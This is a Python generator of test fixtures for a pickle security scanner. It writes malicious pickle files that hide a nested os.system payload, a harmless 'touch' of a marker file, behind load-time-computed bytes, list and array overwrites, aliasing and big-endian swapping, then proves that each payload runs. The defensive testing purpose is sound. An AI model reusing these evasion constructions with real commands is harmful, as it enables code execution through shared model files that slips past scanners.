#!/usr/bin/python3
"""Writes samples/pickle-nested-computed/: pickles that hand a loader (torch.storage._load_from_bytes,
an allowlisted callable) a nested pickle whose bytes are computed at load time from allowlisted
builtins, written by Python's own pickler through __reduce__:

- bytes-list.pkl: _load_from_bytes(bytes([128, 2, 99, ...])), a list of ints longer than the engine's
  container cap (protocol 4: EMPTY_LIST, MARK, ints, APPENDS).
- bytearray-list.pkl: the same with bytearray([...]).
- bytes-tuple-p0.pkl: bytes((128, 2, ...)) written with protocol 0 (MARK ... TUPLE of INTs).
- bytes-ndarray-p2.pkl: bytes(ndarray) of a uint8 numpy array, protocol 2 (numpy's _reconstruct and a
  BUILD state whose raw data is _codecs.encode(text, 'latin1')).
- computed-unknown.pkl: _load_from_bytes(bytes([... , len(()) ...])) with an item computed by a call:
  the bytes cannot be computed statically, so the scanner fails closed (high).
- benign-int-list.pkl, benign-ndarray-p2.pkl, benign-tensor-pickle.pkl: a long list of small ints, a
  uint8 numpy array and a torch tensor pickled with plain pickle (its storage is
  _load_from_bytes(b'...') of a torch.save zip): real tool output with no payload (must stay clean).
- benign-ndarray-bigendian-p2.pkl: a '>u2' numpy array pickled with protocol 2 (must stay clean).

Values changed after they were built in ways the scanner does not model, written opcode by opcode
(the payload is what Python computes; the bytes the value was built with are a harmless pickle of
the same length): the scanner fails closed (high) instead of analysing the stale bytes.

- setitems-list.pkl: bytes(L) after SETITEMS overwrote every item of the list L.
- setitems-longlist.pkl: the same with a list longer than the container cap.
- slice-assign.pkl: L[0:n] = [...] (SETITEM with a builtins.slice key) before bytes(L).
- setitems-ndarray.pkl: SETITEMS on a uint8 numpy array before bytes(array).
- setitems-bytearray.pkl: SETITEMS on a bytearray handed straight to the loader (not malformed:
  Python accepts it).
- appends-bytearray.pkl: APPENDS (bytearray.extend) on a bytearray, then bytes().
- alias-dropped-list.pkl: L dropped past another list's container cap, overwritten through
  _operator.getitem(M, 64), then bytes(L).
- ndarray-bigendian.pkl: bytes(array) of a '>u2' array: numpy byte-swaps it as it unpickles it; the
  unswapped bytes read as a harmless pickle, the swapped ones are the payload (analysed, critical).

Each malicious sample's inner pickle runs os.system("touch <marker>"); the generator loads every
sample with /usr/bin/python3's pickle (and bytes-list.pkl with torch.load too) in a subprocess and
checks the marker appears, so each sample is proven to run its payload. Run from the repository root
with /usr/bin/python3 (numpy, torch 1.13).
"""
import io
import json
import os
import pickle
import pickletools
import shutil
import struct
import subprocess
import sys

import numpy
import torch

OUT = os.path.join("samples", "pickle-nested-computed")
MARK_DIR = "/tmp/modelgate-pickle-nested-computed"
expected = {}


class Call:
    """Pickles as func(*args)."""

    def __init__(self, func, *args):
        self.func = func
        self.args = args

    def __reduce__(self):
        return (self.func, self.args)


def inner(name):
    """os.system('touch <marker>') as a protocol-2 pickle (its bytes become the computed payload)."""
    return pickle.dumps(Call(os.system, f"touch {MARK_DIR}/{name}"), protocol=2)


def put(name, data):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)


def expect(name, verdict, rules=(), absent=()):
    entry = {"verdict": verdict}
    if rules:
        entry["rules"] = list(rules)
    if absent:
        entry["absentRules"] = list(absent)
    expected[f"pickle-nested-computed/{name}"] = entry


def proves(name, loader="pickle"):
    """Loads the sample in a fresh interpreter and checks its payload ran."""
    marker = os.path.join(MARK_DIR, name)
    if os.path.exists(marker):
        os.remove(marker)
    path = os.path.join(OUT, name)
    code = (
        f"import pickle; pickle.load(open({path!r}, 'rb'))"
        if loader == "pickle"
        else f"import torch; torch.load({path!r})"
    )
    subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=120)
    if not os.path.exists(marker):
        raise SystemExit(f"{name}: the payload did not run under {loader}")
    os.remove(marker)


if os.path.isdir(OUT):
    shutil.rmtree(OUT)
os.makedirs(OUT)
os.makedirs(MARK_DIR, exist_ok=True)
load = torch.storage._load_from_bytes
critical = ["pickle/nested-payload", "pickle/dangerous-global"]

put("bytes-list.pkl", pickle.dumps(Call(load, Call(bytes, list(inner("bytes-list.pkl")))), protocol=4))
proves("bytes-list.pkl")
proves("bytes-list.pkl", "torch")
expect("bytes-list.pkl", "malicious", critical)

put("bytearray-list.pkl", pickle.dumps(Call(load, Call(bytearray, list(inner("bytearray-list.pkl")))), protocol=4))
proves("bytearray-list.pkl")
expect("bytearray-list.pkl", "malicious", critical)

put("bytes-tuple-p0.pkl", pickle.dumps(Call(load, Call(bytes, tuple(inner("bytes-tuple-p0.pkl")))), protocol=0))
proves("bytes-tuple-p0.pkl")
expect("bytes-tuple-p0.pkl", "malicious", critical)

array = numpy.frombuffer(inner("bytes-ndarray-p2.pkl"), dtype=numpy.uint8).copy()
put("bytes-ndarray-p2.pkl", pickle.dumps(Call(load, Call(bytes, array)), protocol=2))
proves("bytes-ndarray-p2.pkl")
expect("bytes-ndarray-p2.pkl", "malicious", critical)

# one item of the list is len(()) (0): the list's bytes are known only at load time
payload = list(inner("computed-unknown.pkl"))
zero_at = payload.index(0)
payload[zero_at] = Call(len, ())
put("computed-unknown.pkl", pickle.dumps(Call(load, Call(bytes, payload)), protocol=4))
proves("computed-unknown.pkl")
expect("computed-unknown.pkl", "malicious", ["pickle/nested-payload"])

put("benign-int-list.pkl", pickle.dumps(list(range(200)) + list(range(100)), protocol=4))
expect("benign-int-list.pkl", "clean")
put("benign-ndarray-p2.pkl", pickle.dumps(numpy.arange(300, dtype=numpy.uint8), protocol=2))
expect("benign-ndarray-p2.pkl", "clean")
buf = io.BytesIO()
pickle.dump(torch.arange(100, dtype=torch.uint8), buf, protocol=2)
put("benign-tensor-pickle.pkl", buf.getvalue())
expect("benign-tensor-pickle.pkl", "clean")

put("benign-ndarray-bigendian-p2.pkl", pickle.dumps(numpy.arange(300, dtype=">u2"), protocol=2))
expect("benign-ndarray-bigendian-p2.pkl", "clean")

# ---- values changed in ways the scanner does not model (opcode by opcode)


def glob(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def int_op(n):
    return b"K" + bytes([n]) if n < 256 else b"M" + struct.pack("<H", n)


def ints(data):
    return b"".join(int_op(x) for x in data)


def setitems(data):
    """MARK, (i, data[i]) pairs, SETITEMS: x[i] = data[i] for each i."""
    return b"(" + b"".join(int_op(i) + int_op(x) for i, x in enumerate(data)) + b"u"


def harmless(n):
    """A pickle of 'AAA...' exactly n bytes long (pickle.loads reads it and stops)."""
    for k in range(n):
        b = pickle.dumps("A" * k, protocol=2)
        if len(b) == n:
            return b
    raise SystemExit(f"no harmless pickle of {n} bytes")


def array_expr(raw, dtype):
    """The opcodes of pickle.dumps(numpy array) (protocol 3), without PROTO and STOP."""
    a = numpy.frombuffer(raw, dtype=dtype).copy()
    s = pickletools.optimize(pickle.dumps(a, protocol=3))
    return s[2:-1]


LOADER = glob("torch.storage", "_load_from_bytes")
BYTES = glob("builtins", "bytes")
CALL = b"\x85R"
fail_closed = ["pickle/nested-payload"]


def changed(name, build):
    m = inner(name)
    put(name, build(m, harmless(len(m))))
    proves(name)
    expect(name, "malicious", fail_closed)


changed(
    "setitems-list.pkl",
    lambda m, b: b"\x80\x02" + LOADER + BYTES + b"](" + ints(b) + b"e" + setitems(m) + CALL + CALL + b".",
)
changed(
    "setitems-longlist.pkl",
    lambda m, b: b"\x80\x02" + LOADER + BYTES + b"](" + ints(b + b"A" * 3000) + b"e" + setitems(m) + CALL + CALL + b".",
)
changed(
    "slice-assign.pkl",
    lambda m, b: b"\x80\x02" + LOADER + BYTES + b"](" + ints(b) + b"e"
    + glob("builtins", "slice") + b"K\x00" + int_op(len(m)) + b"\x86R" + b"](" + ints(m) + b"e" + b"s"
    + CALL + CALL + b".",
)
changed(
    "setitems-ndarray.pkl",
    lambda m, b: b"\x80\x03" + LOADER + BYTES + array_expr(b, numpy.uint8) + setitems(m) + CALL + CALL + b".",
)
changed(
    "setitems-bytearray.pkl",
    lambda m, b: b"\x80\x03" + LOADER + glob("builtins", "bytearray") + b"C" + bytes([len(b)]) + b + CALL
    + setitems(m) + CALL + b".",
)
changed(
    "appends-bytearray.pkl",
    lambda m, b: b"\x80\x03" + LOADER + BYTES + glob("builtins", "bytearray") + b"C\x02" + m[:2] + CALL
    + b"(" + ints(m[2:]) + b"e" + CALL + CALL + b".",
)
changed(
    "alias-dropped-list.pkl",
    lambda m, b: b"\x80\x02" + LOADER + BYTES + b"]q\x00(" + ints(b) + b"e0"
    + glob("_operator", "getitem") + b"](" + b"K\x00" * 64 + b"h\x00e" + b"K\x40\x86R" + setitems(m)
    + b"0h\x00" + CALL + CALL + b".",
)


def bigendian(name):
    """bytes(array) of a '>u2' array: numpy swaps it; unswapped it reads as NONE, '', STOP."""
    m = pickle.dumps(Call(os.system, f"touch {MARK_DIR}/{name}"), protocol=0).replace(b"cposix\n", b"cos\n")
    size = 6 + 0x8C + 256
    pad = bytearray(b"a" * 88)
    pad[0], pad[1], pad[3] = 0, 1, 0
    payload = b"\x8c\x58" + bytes(pad) + b"0" + m
    assert len(payload) <= size - 2
    payload = payload + b"a" * (size - 2 - len(payload)) + b".a"
    swapped = b"".join(bytes([payload[i + 1], payload[i]]) for i in range(0, len(payload), 2))
    put(name, b"\x80\x03" + LOADER + BYTES + array_expr(swapped, ">u2") + CALL + CALL + b".")
    proves(name)
    expect(name, "malicious", critical)


bigendian("ndarray-bigendian.pkl")

with open(os.path.join(OUT, "expected.json"), "w") as f:
    json.dump(expected, f, indent=1)
    f.write("\n")
